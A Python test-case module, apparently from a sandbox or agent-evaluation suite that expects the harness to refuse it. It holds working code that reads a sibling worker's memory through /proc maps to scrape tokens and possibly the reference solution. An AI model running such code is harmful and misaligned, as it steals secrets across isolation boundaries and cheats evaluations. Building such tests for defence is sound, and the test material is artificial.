"""Search the memory of the worker beside this one, which may be the reference's."""

from .tools import read_memory

KIND = "act"
OUTCOME = "refused"
OPEN = "works"

MARK = b"token-" + b"sibling-"
PART = 1 << 22


def attack(target):
    with open(f"/proc/{target['sibling']}/maps") as file:
        regions = [line.split()[0].split("-") for line in file if " rw-p " in line]
    found = []
    for start, end in ((int(start, 16), int(end, 16)) for start, end in regions):
        for place in range(start, end, PART):
            try:
                memory = read_memory(target["sibling"], place, min(PART, end - place))
            except OSError:
                continue
            found += [part[:40].decode(errors="replace") for part in memory.split(MARK)[1:]]
    return MARK.decode() + f" {MARK.decode()}".join(found) if found else ""
